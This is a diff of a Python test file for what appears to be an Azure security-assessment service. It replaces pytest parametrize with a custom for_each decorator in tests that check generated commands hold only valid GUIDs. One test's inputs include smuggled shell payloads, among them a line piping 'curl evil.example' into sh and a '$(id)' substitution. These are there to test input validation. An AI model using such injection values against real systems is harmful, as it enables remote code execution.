@@ -25,6 +25,7 @@ from tenants.scope import tenant_scope
 from tests import factories
 from tests.assessments.collect.azure import guid
 from tests.assessments.sandboxed_customer import sent
+from tests.for_each import for_each
 
 pytestmark = pytest.mark.django_db
 ATTACKER = guid(666)
@@ -100,7 +101,7 @@ def test_commands_are_for_the_application_in_the_database(principal: ServicePrin
     assert ATTACKER not in script
 
 
-@pytest.mark.parametrize(
+@for_each(
     "value", ["a'\ncurl evil.example | sh\n'", f"{guid(1)}\n", f"{guid(1)}$(id)", "", f"{guid(1)}\x85x"]
 )
 def test_no_command_contains_a_value_that_is_not_a_guid(value: str) -> None:
@@ -125,7 +126,7 @@ def test_the_requester_is_in_the_sealed_record_and_not_in_the_message(
     assert requested.requested_by == requester.pk
 
 
-@pytest.mark.parametrize("value", [5, "abc", ["x"], {"at": 1}, True])
+@for_each("value", [5, "abc", ["x"], {"at": 1}, True])
 def test_a_cached_value_that_is_no_record_counts_as_absent(value: Any) -> None:
     finding = Finding(pk=UUID(guid(3)), tenant_id=UUID(guid(4)))
     key = check_finding._key(finding.tenant_id, finding.pk)
